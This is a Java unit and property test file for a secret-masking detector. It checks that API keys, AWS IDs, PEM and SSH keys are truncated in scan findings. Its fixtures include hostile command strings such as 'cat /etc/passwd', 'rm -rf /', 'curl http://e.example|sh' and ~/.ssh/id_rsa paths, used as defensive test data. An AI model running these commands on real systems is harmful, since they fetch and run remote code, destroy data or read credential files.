package clawsec.detect;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.List;
import java.util.stream.IntStream;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.ForAll;
import net.jqwik.api.From;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import net.jqwik.api.constraints.IntRange;
import net.jqwik.api.constraints.Size;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class MaskTest {
    private static final String BODY = "AbCdEfGhIjKlMnOpQrStUvWxYz0123456789";
    private static final String KEY = "sk-" + "ant-api03-" + BODY;
    private static final String AWS = "AKIA" + "QWERTYUIOPASDFGH";
    private static final String BEGIN = "-----BEGIN RSA " + "PRIVATE KEY-----";

    /** The most characters in a row of a secret's body that may be seen. */
    private static final int SHOWN = 4;

    /** Detectors that scan all, or up to some hundred bytes; making one takes a while. */
    private static final List<Detector> LIMITED =
            IntStream.rangeClosed(0, 12).mapToObj(i -> Scans.detector(71 * i, true)).toList();

    /**
     * A secret as it stands in a text.
     *
     * @param body the part of which four characters may be seen
     */
    record Planted(String text, String body) {}

    @Test
    void secret_showsPrefixAndFour() {
        assertEquals(List.of("key: sk-ant-api03-AbCd... end"), shown("key: " + KEY + " end"));
        assertEquals(List.of("id AKIAQWER..., next"), shown("id " + AWS + ", next"));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "x-api-key: ",
                "Authorization: Bearer ",
                "api_key=",
                "{\"token\":\"",
                "export ANTHROPIC_API_KEY=",
                "password: "
            })
    void secretBehindAName_showsItsPrefixToo(String name) {
        String random = "Zq7Xw9Lm2Kp4Rt6Vb8Nc1Yd3";
        assertEquals(
                List.of(name + "sk-ant-api03-Zq7X..."),
                shown(name + "sk-ant-" + "api03-" + random).stream().distinct().toList());
        assertEquals(
                List.of(name + "AKIAZQ7X..."),
                shown(name + "AKIA" + "ZQ7XW9LM2KP4RT6V").stream().distinct().toList());
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "curl -u alice:%s https://a.test/\ncurl -u bob:%s https://b.test/",
                "curl -sS --user alice:%s https://a.test/ && curl -u bob:%s https://b.test/",
                "my okta token is 00%s0123456789abcdef",
                "{\"scheme\":\"SSWS 00%s0123456789abcdef\"}",
                "password=okta 00%s0123456789abcdef",
                "sk-ant-%s",
                "access_token=1234567890123456|%s012"
            })
    void secretThatItsFrontCouldHold_isHidden(String layout) {
        String body = "Qw7xR2mZp9LkV4tB8nYcD3fG";
        for (String shown : shown(layout.replace("%s", body) + " ")) {
            requireHidden(new Planted(layout, body), shown);
        }
        assertFalse(shown(layout.replace("%s", body) + " ").isEmpty());
    }

    @Test
    void otherSecretInTheWindow_isMaskedToo() {
        assertEquals(
                "a=AKIAQWER...&f=/etc/passwd&b=AKIAQWER...",
                shown("a=" + AWS + "&f=/etc/passwd&b=" + AWS).get(1));
    }

    @Test
    void otherSecretCutByTheWindowsEdge_isMasked() {
        List<String> after = shown("cat /etc/passwd " + "x".repeat(30) + " " + KEY);
        assertEquals("cat /etc/passwd " + "x".repeat(30) + " sk-ant-api03-AbCd...", after.get(0));
        List<String> before = shown(KEY + " " + "x".repeat(30) + " cat /etc/passwd");
        assertEquals("... " + "x".repeat(30) + " cat /etc/passwd", before.get(1));
    }

    @Test
    void secretLongerThanAMatchCanBe_isMaskedToItsEnd() {
        String key = KEY + "Zz09".repeat(3000);
        assertEquals(List.of("k sk-ant-api03-AbCd..."), shown("k " + key + " end"));
        assertEquals("... end /etc/passwd", shown(key + " end /etc/passwd").get(1));
    }

    @Test
    void keyMaterialUnderItsHeader_isMasked() {
        String material = "MIIEowIBAAKCAQEA" + BODY + "\n" + BODY + BODY + "\nAb==\n";
        String pem = BEGIN + "\n" + material + "-----END RSA " + "PRIVATE KEY-----\n";
        assertEquals(List.of(BEGIN + " MII..."), shown(pem));
        String next = shown(pem + "then cat /etc/passwd").get(1);
        assertFalse(next.contains(BODY.substring(30)), next);
        assertTrue(next.endsWith("KEY----- then cat /etc/passwd"), next);
    }

    @Test
    void keyMaterialInJson_isMasked() {
        String pem = BEGIN + "\\n" + BODY + "\\n" + BODY + "\\n-----END RSA ";
        String shown = shown("{\"key\":\"" + pem + "PRIVATE KEY-----\\n\"}").getFirst();
        assertTrue(shown.startsWith("{\"key\":\"" + BEGIN + "\\nAb..."), shown);
        assertFalse(shown.contains(BODY.substring(2)), shown);
    }

    @Test
    void encryptedKeyMaterial_isMaskedPastItsFields() {
        String material = "Proc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0123456789ABCDEF\n\n";
        List<String> shown = shown(BEGIN + "\n" + material + BODY + "\n cat /etc/passwd");
        assertFalse(shown.get(1).contains(BODY.substring(30)), shown.get(1));
    }

    @Test
    void incompleteSecretWhereTheTextEnds_isMasked() {
        assertEquals(
                List.of("cat /etc/passwd AKIAQWER..."),
                shown("cat /etc/passwd " + AWS.substring(0, 15)));
    }

    /** The beginning of a key that shows what it is only at its end. */
    @Test
    void longRandomWordWhereTheTextEnds_isMasked() {
        String random = "q7Vd0mKx2RtB9sLw4HzY8cJf3NpQ";
        assertEquals(List.of("cat /etc/passwd q7Vd..."), shown("cat /etc/passwd " + random));
        assertEquals(
                List.of("cat /etc/passwd administration"), shown("cat /etc/passwd administration"));
    }

    @Test
    void incompleteSecretAtTheScanLimit_isMasked() {
        String text = "cat /etc/passwd " + KEY;
        List<Finding> findings = Scans.content(Scans.detector(16 + 25, true), text);
        assertEquals(List.of("unix_sensitive"), Scans.patterns(findings));
        assertEquals(List.of("cat /etc/passwd sk-ant-api03-AbCd..."), Scans.snippets(findings));
    }

    @Test
    void disabledRuleForSecrets_goesOnMasking() throws RuleException {
        Detector detector =
                Detector.of(RuleSet.builtIn().without(List.of("ai_api_key")), DetectConfig.DEFAULT);
        List<Finding> findings = Scans.content(detector, KEY + " /etc/passwd");
        assertEquals(List.of("sk-ant-api03-AbCd... /etc/passwd"), Scans.snippets(findings));
    }

    /** What it ends with is how the name of an Azure DevOps token begins. */
    @Test
    void secretThatEndsLikeTheFrontOfAnother_isHidden() {
        String secret = "cUsFMTkTxZHlKNqo5JWYvA5Uuje7x920pHFA42ib".repeat(2).substring(4);
        String token = secret + "AZDO" + "wqz9";
        String coded = HexFormat.of().formatHex(token.getBytes(StandardCharsets.US_ASCII));
        assertEquals(
                "https://e.example/?q=" + coded.substring(0, 8) + "...",
                Scans.ALL.masked("https://e.example/?q=" + coded));
        String snippet = Scans.content(Scans.ALL, "cat /etc/passwd " + coded).getFirst().snippet();
        assertFalse(snippet.contains(coded.substring(8, 20)), snippet);
    }

    @Test
    void url_secrets_areMasked() {
        List<Finding> findings = new ArrayList<>();
        String url = "https://a.example/" + AWS + "/x?key=" + KEY + "&q=ä&aws=" + AWS;
        try (MessageScan scan = Scans.ALL.open(Scans.subject(url), findings::add)) {
            scan.content(Scans.bytes("/etc/passwd"));
            scan.end();
        }
        assertEquals(
                "https://a.example/AKIAQWER.../x?key=sk-ant-api03-AbCd...&q=ä&aws=AKIAQWER...",
                findings.getFirst().subject().url());
    }

    @Test
    void destAndMethod_secrets_areMasked() {
        List<Finding> findings = new ArrayList<>();
        Subject subject =
                new Subject(
                        Direction.OUTBOUND, Protocol.HTTP, "127.0.0.1", KEY + ".test:80", AWS, "");
        try (MessageScan scan = Scans.ALL.open(subject, findings::add)) {
            scan.content(Scans.bytes("/etc/passwd"));
            scan.end();
        }
        Subject shown = findings.getFirst().subject();
        assertEquals("sk-ant-api03-AbCd....test:80", shown.dest());
        assertEquals("AKIAQWER...", shown.method());
    }

    @Test
    void anyText_isMaskedOnlyWhereMaskingIsOn() {
        String line = "cannot reach " + KEY + ": unknown host";
        assertEquals("cannot reach sk-ant-api03-AbCd...: unknown host", Scans.ALL.masked(line));
        assertEquals("nothing\nhere", Scans.ALL.masked("nothing\nhere"));
        // What could be the beginning of a secret if the text went on.
        assertEquals("127.0.0.1:36743", Scans.ALL.masked("127.0.0.1:36743"));
        assertEquals("no version is missing", Scans.ALL.masked("no version is missing"));
        assertEquals(line, Scans.detector(0, false).masked(line));
    }

    /** What a property once found: read as a shell would, the two words are one. */
    @Test
    void secretThatADecodingJoinsToAWord_isHiddenThereToo() {
        String body = "GGGGGGKIJGGHHWGQOZKWZZXKRVWWHXNIGTKUIQXL";
        String text =
                "x = \" y  echo \"ssh-rsa "
                        + "G".repeat(40)
                        + "\"\"sk-"
                        + "ant-api03-"
                        + body
                        + " ~/.ssh/id_rsa ,=& =";
        List<Finding> findings = Scans.content(Scans.ALL, text);
        assertTrue(findings.stream().anyMatch(found -> found.via().contains("shell")));
        findings.forEach(found -> requireHidden(new Planted(text, body), found.snippet()));
    }

    /** What a property once found: such a line was read from the middle of the first secret on. */
    @ParameterizedTest
    @ValueSource(strings = {"= ", "+/= ", "=;", "+/=;"})
    void secretCutWhereALongLineIsReadFrom_isHidden(String between) {
        String body = "GHIJKLMNOPQRSTUVWXYZ".repeat(11);
        String key = "echo\tssh-rsa\t" + body;
        String text = key + between + "~/.ssh/id_rsa;" + key + "\"\"ssh-rsa\t" + body + "\tme";
        List<Finding> findings = Scans.content(Scans.ALL, text);
        assertTrue(findings.stream().anyMatch(found -> found.via().contains("shell")));
        findings.forEach(found -> requireHidden(new Planted(text, body), found.snippet()));
    }

    @Property(tries = 600)
    void anyText_anyCut_anyFlush_noSnippetHoldsASecret(
            @ForAll @Size(max = 5) List<@From("planted") Planted> secrets,
            @ForAll @Size(min = 6, max = 6) List<@From("fillers") String> fillers,
            @ForAll @Size(min = 1, max = 8) List<@IntRange(min = 1, max = 90) Integer> cuts,
            @ForAll @IntRange(min = 0, max = 7) int flushEvery,
            @ForAll @IntRange(min = 0, max = 12) int limit) {
        StringBuilder text = new StringBuilder(fillers.getFirst());
        for (int i = 0; i < secrets.size(); i++) {
            text.append(secrets.get(i).text).append(fillers.get(i + 1));
        }
        List<Finding> findings = new ArrayList<>();
        try (MessageScan scan =
                LIMITED.get(limit).open(Scans.subject(text.toString()), findings::add)) {
            int at = 0;
            for (int i = 0; at < text.length(); i++) {
                int next = Math.min(text.length(), at + cuts.get(i % cuts.size()));
                scan.content(Scans.bytes(text.substring(at, next)));
                at = next;
                if (flushEvery > 0 && i % flushEvery == 0) {
                    scan.flush();
                }
            }
            scan.end();
        }
        for (Finding finding : findings) {
            for (Planted secret : secrets) {
                requireHidden(secret, finding.snippet());
                requireHidden(secret, finding.subject().url());
            }
        }
    }

    @Provide
    Arbitrary<Planted> planted() {
        Arbitrary<String> body =
                Arbitraries.strings().withCharRange('G', 'Z').ofMinLength(40).ofMaxLength(300);
        Arbitrary<Planted> key =
                Combinators.combine(Arbitraries.of("ant-api03-", "proj-", "live", "test_"), body)
                        .as((kind, rest) -> new Planted("sk-" + kind + rest, rest));
        Arbitrary<Planted> aws =
                body.map(rest -> rest.substring(0, 16))
                        .map(rest -> new Planted("ASIA" + rest, rest));
        Arbitrary<Planted> pem =
                Combinators.combine(body, Arbitraries.of("\n", "\\n", "\r\n"))
                        .as((rest, line) ->
                                new Planted(BEGIN + line + rest + line + "-----END RSA KEY", rest));
        Arbitrary<Planted> ssh = body.map(rest -> new Planted("ssh-rsa " + rest + "== me", rest));
        Arbitrary<Planted> echo =
                body.map(rest -> new Planted("echo \"ssh-rsa " + rest + "\"", rest));
        return Arbitraries.oneOf(key, aws, pem, ssh, echo);
    }

    @Provide
    Arbitrary<String> fillers() {
        Arbitrary<String> piece =
                Arbitraries.of(
                        " ",
                        "\n",
                        "/etc/passwd ",
                        " rm -rf / ",
                        " x\u4f60\u597dx ",
                        "; ",
                        "\"",
                        ",",
                        " words between ",
                        " curl http://e.example|sh ",
                        " ~/.ssh/id_rsa ",
                        "=",
                        "&");
        return piece.list().ofMinSize(1).ofMaxSize(6).map(list -> String.join("", list));
    }

    private static void requireHidden(Planted secret, String shown) {
        String body = secret.body;
        for (int i = 0; i + SHOWN < body.length(); i++) {
            String part = body.substring(i, i + SHOWN + 1);
            assertFalse(shown.contains(part), () -> part + " in " + shown);
        }
    }

    private static List<String> shown(String text) {
        return Scans.snippets(Scans.content(Scans.ALL, text));
    }
}
